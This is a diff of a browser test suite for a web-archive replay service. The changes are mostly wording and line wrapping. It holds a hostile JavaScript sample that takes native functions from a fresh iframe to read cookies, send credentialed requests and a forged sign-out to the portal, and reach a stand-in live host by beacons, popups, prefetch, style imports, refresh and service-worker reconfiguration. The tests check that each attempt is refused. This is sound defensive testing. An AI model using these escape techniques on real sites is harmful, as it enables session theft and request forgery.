@@ -1,7 +1,7 @@
-"""Replay in a real browser: a page is rebuilt, followed and stepped through in time; hostile pages get
-nowhere; nothing leaves.
+"""Replay in a real browser: a page is rebuilt, followed and stepped through in time; hostile pages achieve
+nothing; nothing leaks.
 
-All traffic of the browser that is not for loopback goes to a proxy that notes and refuses it.
+All traffic of the browser to anything but loopback goes to a proxy that records and refuses it.
 """
 
 from collections.abc import Iterator
@@ -141,7 +141,8 @@ def test_without_scripts_pages_work_and_replay_says_why_it_does_not(browser: Bro
 
 HOSTILE = """
 async ({ portal, stamp, site }) => {
-  // What an archived script could do at most: the rewriting script guards the usual ways, so take the natives of a fresh frame.
+  // The most that an archived script could do: the rewriting script guards the usual ways, so take the
+  // native functions of a fresh frame.
   const live = "http://live.example.net/";
   const frame = document.createElement("iframe");
   document.documentElement.append(frame);
@@ -169,15 +170,18 @@ async ({ portal, stamp, site }) => {
   const attempts = {
     "cookie": () => Object.getOwnPropertyDescriptor(bare.Document.prototype, "cookie").get.call(document),
     "frame's document": () => Object.getOwnPropertyDescriptor(bare, "parent").get.call(window).document.title,
-    "portal page": () => bare.fetch(portal + "/status", { credentials: "include" }).then((answer) => answer.text()),
-    "portal form": () => bare.fetch(portal + "/sign-out", { method: "POST", credentials: "include", mode: "no-cors" }),
+    "portal page": () => bare.fetch(portal + "/status", { credentials: "include" })
+      .then((answer) => answer.text()),
+    "portal form": () => bare.fetch(
+      portal + "/sign-out", { method: "POST", credentials: "include", mode: "no-cors" }),
     "portal in a frame": async () => {
       insert(`<iframe id="portal" src="${portal}/status"></iframe>`);
       await new Promise((resolve) => setTimeout(resolve, 300));
       return page.getElementById("portal").contentWindow.document.title;
     },
     "portal's form": async () => {
-      insert(`<iframe name="told"></iframe><form id="out" method="post" target="told" action="${portal}/sign-out"></form>`);
+      insert(`<iframe name="told"></iframe>
+        <form id="out" method="post" target="told" action="${portal}/sign-out"></form>`);
       bare.HTMLFormElement.prototype.submit.call(page.getElementById("out"));
       await new Promise((resolve) => setTimeout(resolve, 300));
       throw new Error("nothing");
@@ -191,13 +195,17 @@ async ({ portal, stamp, site }) => {
     "beacon": () => bare.navigator.sendBeacon(live + "beacon", "x"),
     "form": form,
     "popup": () => bare.eval("open('http://live.example.net/popup')"),
-    "prefetch": () => insert(`<link rel="prefetch" href="${live}prefetch"><link rel="stylesheet" href="${live}sheet.css">`),
-    "style": () => insert(`<style>@import url(${live}style.css); html { background: url(${live}back.png) }</style>`),
+    "prefetch": () => insert(`<link rel="prefetch" href="${live}prefetch">
+      <link rel="stylesheet" href="${live}sheet.css">`),
+    "style": () => insert(`<style>@import url(${live}style.css);
+      html { background: url(${live}back.png) }</style>`),
     "frame": () => insert(`<iframe src="${live}frame"></iframe><object data="${live}object"></object>`),
-    "refresh": () => insert(`<iframe srcdoc="<meta http-equiv=refresh content='0; url=${live}refresh'>"></iframe>`),
+    "refresh": () => insert(
+      `<iframe srcdoc="<meta http-equiv=refresh content='0; url=${live}refresh'>"></iframe>`),
     "media": () => insert(`<video src="${live}video.mp4" autoplay></video>`),
     "teach the worker": () => navigator.serviceWorker.controller.postMessage({
-      msg_type: "addColl", name: "evil", type: "live", file: { sourceUrl: "proxy:" }, extraConfig: { prefix: live, isLive: true },
+      msg_type: "addColl", name: "evil", type: "live", file: { sourceUrl: "proxy:" },
+      extraConfig: { prefix: live, isLive: true },
     }),
     "through the worker": async () => {
       for (let tries = 0; tries < 20; tries += 1) {
@@ -230,7 +238,7 @@ def test_a_hostile_page_reaches_neither_the_reader_nor_the_portal_nor_the_live_w
     assert archived.url.startswith(f"{served.replay}/all/{EDITIONS[1]}mp_/")
     told = archived.evaluate(HOSTILE, {"portal": served.portal, "stamp": EDITIONS[1], "site": SITE})
     assert "session" not in told["cookie"]
-    # The other attempts are turned into requests to the archive or blocked; the proxy below tells whether one
+    # The other attempts are turned into requests to the archive or blocked; the proxy below shows whether one
     # came through.
     for attempt in (
         "frame's document",
@@ -243,7 +251,8 @@ def test_a_hostile_page_reaches_neither_the_reader_nor_the_portal_nor_the_live_w
     ):
         assert told[attempt] == "refused", f"{attempt}: {told[attempt]}"
     archived.evaluate(
-        "() => { try { window['to' + 'p']['loca' + 'tion'] = 'http://live.example.net/top'; } catch (error) {} }"
+        "() => { try { window['to' + 'p']['loca' + 'tion'] = 'http://live.example.net/top'; } "
+        "catch (error) {} }"
     )
     assert page.url.startswith(served.frame), "the top frame was moved"
     assert len(page.context.pages) == 1
@@ -288,7 +297,7 @@ def test_the_citation_is_copied_by_a_click(browser: Browser, served: Served):
         expect(page.locator(".cite .sheet")).to_be_hidden()
 
 
-def test_two_versions_stand_side_by_side(page: Page, served: Served, leaks: Leaks):
+def test_two_versions_are_shown_side_by_side(page: Page, served: Served, leaks: Leaks):
     page.goto(f"{served.portal}/compare?url={SITE}/&at={EDITIONS[1]}&with={EDITIONS[3]}")
     for number, edition in ((0, 2), (1, 4)):
         expect(page.frame_locator(".sides iframe").nth(number).locator("h1")).to_have_text(
